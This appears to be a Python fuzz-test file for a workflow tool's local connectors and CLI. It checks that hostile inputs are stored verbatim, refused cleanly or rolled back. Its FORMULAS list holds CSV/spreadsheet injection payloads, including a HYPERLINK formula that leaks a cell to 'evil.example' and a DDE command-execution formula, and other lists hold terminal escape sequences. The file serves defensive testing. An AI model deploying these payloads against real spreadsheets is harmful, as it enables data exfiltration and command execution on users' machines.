"""Issue 12, the standing fuzzers: generated run-conf values through every local connector and the CLI.

The values are what an attacker or a careless user types into a trigger form: control characters
(C0, C1, a bare CR, NUL), terminal escapes, spreadsheet formulas (``=HYPERLINK(...)``, ``+1+1``,
``@SUM(...)``), any unicode, huge strings and deeply nested values. For each connector:

* no traceback: a call returns, or refuses with an action error (one short line);
* no data lost: what was stored reads back as given (formulas as text, with the local CSV's ``'``);
* a rollback leaves the workspace as it found it;
* nothing is evaluated.

Most examples call the connectors in-process, as a step calls them; a few go through ``wfo run``
(``dag.test``) with the value in ``--conf``.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response
from wfo_adversarial import call, snapshot

from airflow_provider_wfo.actions.registry import ActionError

LOCAL_TARGETS = ("drive", "sheets", "slack", "trello", "notion", "email")

FORMULAS = st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "=1+1",
        "\t=1+1",
        "\r=1+1",
        '=IMPORTXML("http://evil.example","//a")',
        "'quoted",
    ]
)
ESCAPES = st.sampled_from(
    ["\x1b]0;TITLE\x07\x1b[2J", "\u202eevil", "\x00", "\r", "\r\n", "a\x85b", "\x9b31m", "\x7f", "\ufeff"]
)
CONTROLS = st.text(st.characters(max_codepoint=0x9F, exclude_categories=("Cs",)), max_size=12)
UNICODE = st.text(st.characters(exclude_categories=("Cs",)), max_size=30)
HUGE = st.integers(20_000, 200_000).map(lambda n: "x" * (n - 1) + "=")
TEXT = st.one_of(
    FORMULAS,
    ESCAPES,
    CONTROLS,
    UNICODE,
    st.tuples(FORMULAS | UNICODE, ESCAPES, UNICODE).map("".join),
)
BIG_TEXT = TEXT | HUGE


def _nest(depth: int, leaf: Any) -> Any:
    value = leaf
    for level in range(depth):
        value = [value] if level % 2 else {"k": value}
    return value


JSON_LEAF = (
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | TEXT
)
DEEP = st.builds(_nest, st.integers(1, 90), TEXT)
NESTED = st.recursive(
    JSON_LEAF,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(TEXT, inner, max_size=4),
    max_leaves=20,
)
FUZZ = settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture
def workspace(tmp_path: Path) -> Iterator[Path]:
    """Every local target's default connection on one fresh workspace (emptied per example)."""
    ws = tmp_path / "ws"
    conn = json.dumps({"conn_type": "wfo_local", "extra": {"workspace": str(ws)}})
    names = [f"AIRFLOW_CONN_WFO_{t.upper()}" for t in LOCAL_TARGETS]
    saved = {n: os.environ.get(n) for n in names}
    os.environ.update(dict.fromkeys(names, conn))
    yield ws
    for name, value in saved.items():
        if value is None:
            os.environ.pop(name, None)
        else:
            os.environ[name] = value


def _fresh(ws: Path) -> Path:
    shutil.rmtree(ws, ignore_errors=True)
    ws.mkdir(parents=True)
    return ws


def _visible(ws: Path) -> dict[str, str]:
    """The workspace as a person sees it (the ``.wfo`` folder is the backends' bookkeeping)."""
    return {k: v for k, v in snapshot(ws).items() if not k.startswith(".wfo")}


def _attempt(target: str, action: str, params: dict[str, Any], **kw: Any) -> dict[str, Any] | None:
    """The call's result, or None when it refused cleanly; anything else fails the test."""
    try:
        return call(target, action, params, **kw)
    except ActionError as exc:
        text = str(exc)
        assert "\n" not in text and len(text) < 2000, text[:300]
        assert "Traceback" not in text
        return None


def _csv(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _trimmed(row: list[str]) -> list[str]:
    while row and row[-1] == "":
        row = row[:-1]
    return row


def _cells(path: Path) -> list[list[str]]:
    return [_trimmed(row) for row in _csv(path)]


def _as_stored(value: str) -> str:
    """What the local CSV keeps for a RAW value: a formula-looking text gets a leading ``'``."""
    import re

    if value.startswith(("=", "+", "-", "@", "\t", "\r", "'")) and not re.fullmatch(
        r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", value
    ):
        return "'" + value
    return value


@FUZZ
@given(first=st.lists(TEXT, min_size=1, max_size=3), value=BIG_TEXT, other=TEXT)
def test_sheets_append_stores_text_and_undo_removes_it(
    workspace: Path, first: list[str], value: str, other: str
) -> None:
    ws = _fresh(workspace)
    assert _attempt("sheets", "update_sheet", {"spreadsheetId": "s", "values": first}, key="d:r:first")
    path = ws / "sheets" / "s" / "Sheet1.csv"
    before = _visible(ws)
    res = _attempt("sheets", "update_sheet", {"spreadsheetId": "s", "values": [value, other, 7]})
    if res is None:
        assert _visible(ws) == before  # a refusal changed nothing
        return
    rows = _csv(path)
    assert rows[0] == [_as_stored(v) for v in first]
    assert rows[-1] == [_as_stored(value), _as_stored(other), "7"]  # nothing evaluated, nothing lost
    assert _attempt("sheets", "delete_row", {"spreadsheetId": "s", "rowId": res["rowId"]}, rollback=True)
    assert _visible(ws) == before


@FUZZ
@given(cells=st.lists(TEXT, min_size=2, max_size=2), value=TEXT)
def test_sheets_update_range_undo_restores_the_cells(workspace: Path, cells: list[str], value: str) -> None:
    ws = _fresh(workspace)
    assert _attempt("sheets", "update_sheet", {"spreadsheetId": "u", "values": cells}, key="d:r:seed")
    path = ws / "sheets" / "u" / "Sheet1.csv"
    before = _cells(path)
    res = _attempt(
        "sheets",
        "update_sheet",
        {"spreadsheetId": "u", "operation": "UPDATE_RANGE", "range": "A1:B1", "values": [[value, value]]},
    )
    assert res is not None
    assert _cells(path)[0] == _trimmed([_as_stored(value)] * 2)
    # The documented undo: write previousValues back, USER_ENTERED (formulas come back as formulas).
    undo = {
        "spreadsheetId": "u",
        "operation": "UPDATE_RANGE",
        "range": "A1:B1",
        "values": res["previousValues"],
        "valueInputOption": "USER_ENTERED",
    }
    assert _attempt("sheets", "update_sheet", undo, rollback=True) is not None
    assert _cells(path) == before  # the same cells (a trailing empty cell may lose its comma)


@FUZZ
@given(name=TEXT, content=BIG_TEXT)
def test_drive_keeps_the_bytes_and_undo_leaves_nothing(workspace: Path, name: str, content: str) -> None:
    ws = _fresh(workspace)
    before = _visible(ws)
    res = _attempt("drive", "file_document", {"name": f"{name}.txt", "content": content, "folder": name})
    if res is None:
        assert _visible(ws) == before
        return
    stored = (ws / res["path"]).resolve()
    assert stored.is_relative_to(ws.resolve())  # no name leaves the workspace
    assert stored.read_bytes() == content.encode("utf-8")
    assert _attempt("drive", "delete_file", {"fileId": res["fileId"]}, rollback=True)
    assert _visible(ws) == before


@FUZZ
@given(name=BIG_TEXT, description=TEXT, extra=NESTED)
def test_trello_and_notion_records_keep_the_values_and_undo_removes_them(
    workspace: Path, name: str, description: str, extra: Any
) -> None:
    ws = _fresh(workspace)
    before = _visible(ws)
    card = _attempt("trello", "create_task", {"name": name, "description": description, "listId": "l1"})
    if card is not None:
        stored = json.loads((ws / "trello" / "cards" / f"{card['id']}.json").read_text(encoding="utf-8"))
        assert stored["name"] == name and stored["desc"].startswith(description)
        assert _attempt("trello", "delete_card", {"cardId": card["id"]}, rollback=True)
    assert _visible(ws) == before
    page = _attempt(
        "notion",
        "create_task",
        {"databaseId": "db", "title": name, "content": description, "properties": {"Notes": extra}},
        key="d:r:page",
    )
    if page is not None:
        stored = json.loads((ws / "notion" / "pages" / f"{page['id']}.json").read_text(encoding="utf-8"))
        assert stored["title"] == name and stored["properties"]["Notes"] == extra
        assert _attempt("notion", "archive_page", {"pageId": page["id"]}, rollback=True)
    assert _visible(ws) == before


@FUZZ
@given(message=BIG_TEXT, subject=TEXT)
def test_slack_and_email_outboxes_keep_the_text(workspace: Path, message: str, subject: str) -> None:
    ws = _fresh(workspace)
    sent = _attempt("slack", "send_notification", {"channel": "#c", "message": message})
    if sent is not None:
        line = json.loads((ws / "slack" / "outbox.jsonl").read_text(encoding="utf-8").splitlines()[-1])
        assert line["message"] == message
    mail = _attempt("email", "send_email", {"to": "a@example.com", "subject": subject, "body": message})
    if mail is None:
        assert any(c in subject for c in "\r\n\x00\x85\u2028\u2029") or not subject.strip()
    else:
        line = json.loads((ws / "email" / "outbox.jsonl").read_text(encoding="utf-8").splitlines()[-1])
        assert line["body"] == message and line["subject"] == (subject or line["subject"])


@FUZZ
@given(body=DEEP | NESTED, query=TEXT)
def test_http_sends_and_returns_any_json_whole(httpserver: HTTPServer, body: Any, query: str) -> None:
    def echo(request: Request) -> Response:
        return Response(request.get_data(), content_type="application/json")

    httpserver.clear()
    httpserver.expect_request("/echo").respond_with_handler(echo)
    res = _attempt(
        "http", "request", {"url": httpserver.url_for("/echo"), "json": body, "query": {"q": query}}
    )
    assert res is not None and res["body"] == body
    assert httpserver.log[-1][0].args["q"] == query


@settings(max_examples=60, deadline=None)
@given(name=TEXT, error=BIG_TEXT, data=NESTED)
def test_the_run_summary_prints_any_result_without_control_sequences(
    name: str, error: str, data: Any
) -> None:
    from types import SimpleNamespace

    from airflow_provider_wfo.cli.common import make_console
    from airflow_provider_wfo.local.summary import render_summary
    from airflow_provider_wfo.results import StepResult, StepStatus, WorkflowResult, WorkflowStatus

    step = StepResult(step_id="a", step_name=name or "a", status=StepStatus.FAILED, error=error)
    done = StepResult(
        step_id="b",
        step_name=name or "b",
        status=StepStatus.COMPLETED,
        result={"success": True, "data": {"v": data, "name": name}},
    )
    result = WorkflowResult(
        workflow_id="w",
        workflow_name=name or "w",
        status=WorkflowStatus.FAILED,
        steps=[done, step],
        error=error,
        success=False,
        progress={
            "current_step": 2,
            "total_steps": 2,
            "completed_steps": 1,
            "failed_steps": 1,
            "status": "FAILED",
            "percent_complete": 100,
            "current_step_name": name,
        },
    )
    out = io.StringIO()
    outcome = SimpleNamespace(result=result, dag_id="w", run_id="r", dag_run_state="failed")
    render_summary(make_console(file=out, width=120), outcome)
    text = out.getvalue()
    assert not [c for c in text if c not in "\n" and (ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F)]
    assert "\u202e" not in text


@pytest.mark.slow
@settings(max_examples=3, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=TEXT)
def test_wfo_run_with_hostile_conf_rolls_back_to_the_workspace_it_found(
    value: str, airflow_home: Path, tmp_path: Path, capfd: Any, dags_folder: Path
) -> None:
    from airflow_provider_wfo.cli import main

    ws = airflow_home / "workspace"
    definition = {
        "id": "fuzz-conf",
        "name": "Fuzz conf",
        "steps": [
            {
                "id": "row",
                "target": "sheets",
                "action": "update_sheet",
                "params": {"spreadsheetId": "fuzz", "values": ["$value", "${value}!"]},
                "rollback": {
                    "target": "sheets",
                    "action": "delete_row",
                    "params": {"spreadsheetId": "fuzz", "rowId": "$row.rowId"},
                },
            },
            {
                "id": "card",
                "target": "trello",
                "action": "create_task",
                "params": {"name": "$value", "listId": "l"},
                "rollback": {"target": "trello", "action": "delete_card", "params": {"cardId": "$card.id"}},
            },
            {"id": "boom", "target": "test", "action": "do", "params": {"fail": "fatal"}},
        ],
    }
    path = tmp_path / "fuzz-conf.json"
    path.write_text(json.dumps(definition))
    before = _visible(ws)
    capfd.readouterr()
    code = main(["run", str(path), "--conf", json.dumps({"value": value}), "--json", "--no-progress"])
    out, err = capfd.readouterr()
    assert code == 1, err
    result = json.loads(out)
    assert result["status"] == "ROLLED_BACK", result
    done = {s["stepId"]: s for s in result["steps"]}
    assert done["row"]["rolledBack"] and done["card"]["rolledBack"]
    assert _visible(ws) == before
    assert "Traceback" not in out + err


KEYS = st.sampled_from(["id", "name", "description", "steps", "params", "nmae", "\x1b[2J", "=1+1", "é"])


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    wid=TEXT,
    name=TEXT,
    step=st.dictionaries(KEYS | TEXT, NESTED, max_size=4),
    params=st.dictionaries(TEXT, NESTED, max_size=3),
    extra=st.dictionaries(KEYS, NESTED, max_size=2),
)
def test_wfo_validate_and_graph_answer_any_definition_cleanly(
    tmp_path: Path,
    capfd: Any,
    wid: str,
    name: str,
    step: dict[str, Any],
    params: dict[str, Any],
    extra: dict[str, Any],
) -> None:
    from airflow_provider_wfo.cli import main

    steps = [
        {"id": "a", "name": name, "action": "do", "target": "test", "params": params},
        {"id": "b", **step},
    ]
    path = tmp_path / "fuzz.json"
    path.write_text(json.dumps({"id": wid, "name": name, "steps": steps, **extra}), encoding="utf-8")
    capfd.readouterr()
    code = main(["validate", str(path)])
    out, err = capfd.readouterr()
    assert code in (0, 1), err  # 2 would be a crash turned into a one-line error
    assert "Traceback" not in out + err
    assert not [c for c in out + err if c not in "\n\t" and (ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F)]
    if code == 0:
        assert main(["graph", str(path)]) == 0
        out, err = capfd.readouterr()
        assert "flowchart" in out and "\x1b" not in out + err
